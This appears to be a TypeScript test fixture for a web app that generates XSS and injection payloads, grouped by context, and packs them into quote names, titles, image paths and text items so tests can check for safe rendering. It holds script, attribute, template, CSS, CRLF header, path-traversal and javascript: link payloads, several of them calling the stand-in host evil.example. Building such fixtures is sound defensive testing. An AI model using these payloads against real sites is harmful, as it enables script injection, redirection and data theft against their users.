import { parseInlineLinks, findUnfinishedLink } from "~/domain/items/inline-links";
import type { Item } from "~/domain/items/item";
import { itemToDocument } from "~/domain/items/document";
import { limits } from "~/domain/limits";

/**
 * Injection payloads. If one works, it opens a dialog and sets a marker, requests another host, or adds an element or
 * attribute. Each is made for one context: HTML and its differences to XML, inline links, i18next, JSON, CSS, headers,
 * URLs. Each is well-formed and fits a name.
 */
interface Payload {
  text: string;
  /** its text where inline links are rendered */
  shown: string;
  /** harmless text with the same line breaks and links */
  harmless: string;
}

/** Whether a record contains harmless text or payloads. */
export type PayloadVariant = "harmless" | "text";

/** Opens a dialog and sets a marker. */
const payloadScript = "alert(__hit=1)";
const image = `<img src=x onerror=${payloadScript}>`;
const script = `<script>${payloadScript}</script>`;
const attackerHost = "evil.example";

/**
 * By the context from which a payload would break out. The site renders user text without parsing it as HTML, so payloads
 * against sanitizers are left out.
 */
const families: Record<string, readonly string[]> = {
  "elements that run scripts": [
    script,
    `<SCRIPT\n>${payloadScript}</SCRIPT\n>`,
    `<<script>${payloadScript}//<</script>`,
    `<script src=//${attackerHost}/x.js></script>`,
    `<script nonce="">${payloadScript}</script>`,
    `<noscript>${script}</noscript>`,
    `<svg><script href="data:,${payloadScript}"/>`,
    image,
    `<svg/onload="${payloadScript}"//`,
    `<iframe srcdoc="${script}">`,
    `<p tabindex=0 autofocus onfocus='${payloadScript}' `,
    `<math href=javascript:${payloadScript}>press</math>`,
  ],
  "out of an attribute": ['"', "'", "`", '\\"', "&quot;", "%22"].flatMap((quote) => [
    `${quote} onfocus=${payloadScript} autofocus x=${quote}`,
    `${quote}>${image}`,
    `${quote};${payloadScript};//${quote}`,
  ]),
  "out of the surrounding element": [
    "title",
    "textarea",
    "style",
    "script",
    "noscript",
    "option",
    "svg",
    "a",
    "head",
  ].map((name) => `</${name}>${image}`),
  "out of or into a comment": [`-->${image}`, `<!--${image}`, `<![CDATA[${image}]]>`, `<?x ${image}?>`],
  "out of JSON in a script, or out of the script": [
    `"}</script>${script}`,
    `<!--<script>"}${image}`,
    `\u2028${payloadScript}\u2029//`,
    `"};${payloadScript};({"x":"`,
    `\\"};${payloadScript}//`,
    `\\u003c/script\\u003e${script}`,
    `{"__proto__":{"onload":"${payloadScript}"}}`,
    "\\",
  ],
  "template syntax": [
    ...["{{constructor.constructor('alert(__hit=1)')()}}", `{{- "${image}"}}`, "{{customerName}}", "{{count}}"],
    ...["{{__proto__}}", "$t(quote.greeting)", '$t(notFound.text, {"count": 1})', "$t($t(footer.heading))"],
    ...[`\${${payloadScript}}`, "<%= 7*7 %>", "$&$1$`$'$$", "%s%d%o%c", "__proto__", "toString", "<0>x</0>", "null"],
  ],
  styles: [
    `<style>@import "//${attackerHost}/x.css"</style>`,
    "<style>body{display:none}",
    `<p style="background:url(//${attackerHost}/x)">`,
    `;background:url(javascript:${payloadScript})`,
    "}*{display:none}",
  ],
  "encodings and characters that HTML, URLs or terminals treat specially": [
    ...["&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;script&amp;gt;", "&#x3c;script>", "%3Cscript%3Ealert(1)"],
    ...["\\x3cscript\\x3e", "+ADw-script+AD4-", "\uff1cscript\uff1e", "<\u0338script>", "<scr\u0131pt>", "&#0;"],
    `<scr\0ipt>${payloadScript}</scr\0ipt>`,
    `<img\0src=x onerror=${payloadScript}>`,
    `\ufeff${image}`,
    `\u202e${image}\u202c`,
    `\u0008\u007f\u0085${image}`,
    `\u0001\u001b[31m${image}`,
    `\ufffd${image}\uffff`,
    ...["\u{1f334}<\u{10ffff}>", "a\u0300\u0301<b>", "&", "<", ">", "</>"],
  ],
  "out of a header, a file name or a PDF string": [
    ...["x\r\nSet-Cookie: hit=1", "x%0d%0aSet-Cookie:%20hit=1", `.html"; filename*=UTF-8''x.html`, "../../etc/passwd"],
    ...["x.pdf\0.html", "\\)>>endobj", ")/OpenAction<</S/JavaScript/JS(app.alert(1))>>("],
  ],
  "elements that redirect, exfiltrate or clobber names": [
    `<base href=//${attackerHost}/>`,
    `<meta http-equiv=refresh content="0;url=//${attackerHost}">`,
    `<button form=log-out formaction=//${attackerHost}>`,
    `<img srcset=//${attackerHost}/x>`,
    ...["<input name=csrf type=hidden", "<a id=__remixContext href=x:y>", "<p data-island=strip>", "<h1>Heading</h1>"],
  ],
  "dangerous link targets": [
    `javascript:${payloadScript}`,
    `JaVaScRiPt:${payloadScript}`,
    `\u0001javascript:${payloadScript}`,
    `java\tscript:${payloadScript}`,
    `java\nscript:${payloadScript}`,
    `java\0script:${payloadScript}`,
    `&#106;avascript:${payloadScript}`,
    `javascript%3a${payloadScript}`,
    `view-source:javascript:${payloadScript}`,
    ...["vbscript:msgbox(1)", "file:///etc/passwd", `blob:https://${attackerHost}/x`],
    `data:text/html,${script}`,
    ...[`//${attackerHost}/x`, `/\\${attackerHost}/x`, `/\t/${attackerHost}/x`, `https:${attackerHost}`],
    `https://${attackerHost}\\@localhost/`,
  ].flatMap((address) => [address, `#[press|${address}]`, `<a href="${address}">press</a>`]),
};

/** Inline links with hostile labels and addresses. */
const links = [
  `${image}|/tours`,
  "{{name}}$t(footer.heading)|/tours",
  `</a>${script}|/tours`,
  `x|/tours"onfocus=${payloadScript}//`,
  `x|/tours?a="><svg/onload=${payloadScript}>&b='`,
  "x|/quote/{{name}}?q=$t(footer.heading)",
  "x|/%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
  "x|/tours?lang=en&lang=<b>",
  `x|https://${attackerHost}/"onmouseover="${payloadScript}`,
  `x|mailto:a@b"onclick="${payloadScript}`,
  "x|mailto:a@b?subject=&body=%0d%0aBcc:c",
  "x|tel:+39(0)31-0000.142",
];

/** All payloads, with stored line breaks. */
export const payloads: readonly Payload[] = [
  ...Object.values(families)
    .flat()
    .map((text) => text.replace(/\r\n?/g, "\n"))
    .map((text) => ({ text, shown: text, harmless: text.replace(/[^\n]+/g, harmlessWordsLike) })),
  ...links.map((link) => ({
    text: `#[${link}]`,
    shown: link.replace(/\|.*/, ""),
    harmless: `#[Word|${/\|\//.test(link) ? "/tours" : "tel:+1"}]`,
  })),
];

/** Returns a harmless line with as many addresses and unfinished links. */
function harmlessWordsLike(line: string): string {
  const addresses = parseInlineLinks(line).filter((part) => typeof part !== "string");
  const words = ["Word", ...addresses.map(() => "https://word.example")];
  return [...words, ...(findUnfinishedLink(line) === null ? [] : ["#[Word|word:]"])].join(" ");
}

/** Joins payloads into as few texts as possible of `length` characters at most. */
export function packPayloads(length: number, between = " "): Payload[] {
  const packs: Payload[] = [];
  for (const each of payloads) {
    const last = packs.at(-1);
    if (last && last.text.length + between.length + each.text.length <= length) {
      for (const variant of ["text", "shown", "harmless"] as const) last[variant] += between + each[variant];
    } else packs.push({ ...each });
  }
  return packs;
}

/** The payloads in as few names as possible. A name can't contain NUL. */
export const payloadNames = packPayloads(limits.name).map(({ text, shown, harmless }) => ({
  ...{ text: text.replaceAll("\0", ""), shown: shown.replaceAll("\0", "") },
  harmless: harmless.replaceAll("\0", ""),
}));

/** The payloads in one text, one per line. */
export const allPayloads = packPayloads(limits.text, "\n")[0] ?? { text: "", shown: "", harmless: "" };

/** Returns a picture's address with the characters of a payload that a path may contain. */
function pictureAddressWith(words: string): string {
  return `/images/${words.replace(/[\p{Cc}\s\\]/gu, "")}`;
}

/** Returns a displayed quote with a payload in each field. */
export function buildQuoteWithPayload(name: Payload, variant: PayloadVariant) {
  const words = name[variant];
  return {
    ...{ name: words, customerName: words, display: true },
    ...{ displayDescription: words, displayCover: pictureAddressWith(words) },
  };
}

/** Returns a quote with all payloads in each type of item, as separate texts and joined. */
export function buildQuoteWithAllPayloads(variant: PayloadVariant) {
  const items: Item[] = [
    ...packPayloadsIntoItems(variant),
    ...payloads.map((each): Item => ({ type: "text", text: each[variant], size: "md" })),
    { type: "interruption" },
  ];
  const name = payloadNames[0] ?? allPayloads;
  return {
    ...buildQuoteWithPayload(name, variant),
    displayDescription: allPayloads[variant],
    items: items.map(itemToDocument),
  };
}

/** Returns few items with all payloads in each type. */
export function packPayloadsIntoItems(variant: PayloadVariant): Item[] {
  const titles = packPayloads(limits.shortText).map((each) => each[variant]);
  return [
    ...titles.map((title): Item => ({ type: "title", title1: title, title2: title, size: "md" })),
    ...titles.map((title3): Item => ({ type: "title3", title3, size: "lg" })),
    { type: "slider", images: payloadNames.map((name) => pictureAddressWith(name[variant])) },
    { type: "slider", images: [pictureAddressWith(payloadNames[0]?.[variant] ?? "")] },
    { type: "text", text: allPayloads[variant], size: "sm" },
  ];
}
